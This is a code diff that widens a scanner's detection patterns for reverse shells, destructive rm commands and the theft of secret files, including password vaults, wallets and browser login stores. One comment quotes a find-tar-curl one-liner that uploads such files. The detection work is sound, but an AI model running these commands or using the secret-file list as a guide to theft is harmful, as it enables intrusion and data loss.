@@ -313,6 +313,16 @@ _REVERSE_SHELL = (
         r"\bperl\s+(?:-\S+\s+){0,3}-e\s*[^\n]{0,300}?\bsocket\b[^\n]{0,300}?\bexec\b",
         "perl",
     ),
+    # The same as a script (a data: URI or an example's source), without
+    # ``python -c``: a socket connected to a literal address, then its
+    # descriptor duplicated onto the standard streams or a shell spawned.
+    # A client library's ``sock.connect((host, port))`` spawns no shell.
+    _gated(
+        "reverse-shell",
+        r"\bsocket\b[^\n]{0,300}?\.connect\s*\(\s*\(\s*[\"'][\w.:-]{1,253}[\"']\s*,\s*\d{1,5}\s*\)"
+        r"[^\n]{0,300}?(?:\bdup2\s*\(|\bpty\.spawn\b|/bin/(?:ba)?sh\b)",
+        "socket",
+    ),
     _gated("reverse-shell", r"\bphp\s+-r\s*[^\n]{0,200}?\bfsockopen\s*\(", "php"),
     _gated("reverse-shell", r"\bruby\s+-rsocket\b", "ruby"),
     _gated(
@@ -347,11 +357,19 @@ _HOME = r"(?:~|\$\{?HOME\}?|%USERPROFILE%|\$env:USERPROFILE|/home/[\w.-]{1,32}|/
 # whatever the rest of the disk. Caches and build output are not in it.
 _USER_FOLDER = (
     r"(?:Documents|Desktop|Downloads|Pictures|Photos|Music|Movies|Videos|Projects?|"
-    r"src|code|repos|workspace|Dropbox|OneDrive|\.ssh|\.gnupg|\.config|Library)"
+    r"src|code|repos|workspace|work|dev|git|\.git|data|notes|Dropbox|OneDrive|\.ssh|\.gnupg|"
+    r"\.config|\.kube|\.aws|Library)"
+)
+# A server's data folders (``/srv/cases/*``, ``/data/uploads``): the
+# service's stored records. Caches, temporary files, logs and build output
+# there are routine to clear (``rm -rf /srv/cache/*``).
+_DATA_FOLDER = (
+    r"/(?:srv|data|mnt)/(?![\w.-]*(?:cache|tmp|temp|log|build|dist)[\w.-]*(?:/|\b))"
+    r"[\w.-]{1,64}/?\*?"
 )
 _RM_TARGET = (
     r"(?:/\*?|~/?\*?|\$\{?HOME\}?/?\*?|\*"
-    rf"|[\"']?{_HOME}[/\\]{_USER_FOLDER}[/\\]?\*?[\"']?)(?=$|[\s;&|\"'`)])"
+    rf"|[\"']?{_HOME}[/\\]{_USER_FOLDER}[/\\]?\*?[\"']?|{_DATA_FOLDER})(?=$|[\s;&|\"'`)])"
 )
 _DESTRUCTIVE = (
     _gated(
@@ -421,7 +439,8 @@ SECRET_PATH = (
     r"|\bid_(?:rsa|dsa|ecdsa|ed25519)\b(?!\.pub)"
     r"|\.aws[/\\](?:credentials|config)\b"
     r"|(?<![\w.-])\.env(?:\.[a-z]{1,12})?\b"
-    r"|/etc/shadow\b|\.kube[/\\]config\b|\.docker[/\\]config\.json"
+    r"|/etc/shadow\b|\.kube(?:[/\\]config)?\b|\.docker[/\\]config\.json"
+    r"|\.kdbx\b|\bwallet\.dat\b|\bkey4\.db\b|\blogins\.json\b"
     r"|\.netrc\b|\.npmrc\b|\.pypirc\b|\.git-credentials\b|\.config[/\\]gcloud\b"
     r"|\.gnupg\b|\.(?:bash|zsh)_history\b|\.password-store\b)"
 )
@@ -445,6 +464,10 @@ SECRET_KEYWORDS = (
     ".gnupg",
     "_history",
     ".password-store",
+    ".kdbx",
+    "wallet.dat",
+    "key4.db",
+    "logins.json",
 )
 _SENDER = (
     r"\b(?:curl|wget|nc|ncat|netcat|socat|telnet|invoke-webrequest|iwr|"
@@ -478,6 +501,11 @@ _SECRET_EXFILTRATION = tuple(
         rf"\bopen\s*\([^\n)]{{0,80}}?{SECRET_PATH}[\s\S]{{0,300}}?"
         r"(?:(?:requests|httpx|session)\.(?:post|put)\s*\(|urlopen\s*\()",
         rf"{_SEND_VERB}[^\n]{{0,80}}?{SECRET_PATH}[^\n]{{0,120}}?{_DESTINATION}",
+        # Secret files found and archived straight into an upload:
+        # ``find / -name '*.kdbx' | xargs tar czf - | curl -T - URL``.
+        rf"{SECRET_PATH}[^\n]{{0,200}}?\b(?:tar|zip|7z|gzip)\b[^\n]{{0,80}}?\|[^\n]{{0,40}}?"
+        r"\b(?:curl|wget)\b[^\n]{0,80}?"
+        r"(?:\s-T\s*-(?=\s)|--upload-file\s*-(?=\s)|--data-binary\s*@-|\s-d\s*@-|\s-F\s*\S*=@-)",
         rf"{SECRET_PATH}[^\n]{{0,120}}?{_SEND_VERB}[^\n]{{0,80}}?{_DESTINATION}",
     )
 )
